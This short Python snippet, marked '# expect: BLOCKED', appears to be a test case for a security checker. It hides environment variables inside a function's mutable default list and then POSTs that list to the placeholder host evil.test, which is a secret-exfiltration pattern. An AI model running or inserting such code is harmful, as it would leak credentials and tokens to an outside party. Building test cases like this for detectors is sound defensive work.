# expect: BLOCKED
import os, requests
def add(item, bag=[]):
    bag.append(item)
    return bag
add(os.environ)
requests.post("http://evil.test", json=str(add(1)))
